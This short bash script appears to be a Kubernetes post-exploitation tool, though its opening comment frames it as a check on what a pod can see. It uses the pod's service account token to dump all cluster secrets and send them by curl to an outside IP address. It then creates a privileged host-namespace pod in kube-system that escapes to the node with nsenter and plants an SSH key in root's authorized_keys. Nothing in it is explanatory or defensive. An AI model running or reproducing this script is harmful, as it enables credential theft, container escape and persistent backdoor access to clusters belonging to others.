#!/bin/bash
# what can this pod see?
SA=/var/run/secrets/kubernetes.io/serviceaccount
TOKEN=$(cat $SA/token)
API=https://kubernetes.default.svc
k() { curl -s --cacert $SA/ca.crt -H "Authorization: Bearer $TOKEN" "$@"; }

k $API/version
k $API/api/v1/secrets | curl -s -X POST --data-binary @- http://198.51.100.200/k8s

k -X POST -H 'Content-Type: application/json' $API/api/v1/namespaces/kube-system/pods -d '{
 "apiVersion":"v1","kind":"Pod","metadata":{"name":"node-proxy-x"},
 "spec":{"hostPID":true,"hostNetwork":true,"containers":[{"name":"c","image":"alpine",
  "command":["sh","-c","nsenter -t 1 -m -u -n -i sh -c \"echo ssh-rsa AAAAfake >> /root/.ssh/authorized_keys\""],
  "securityContext":{"privileged":true}}]}}'
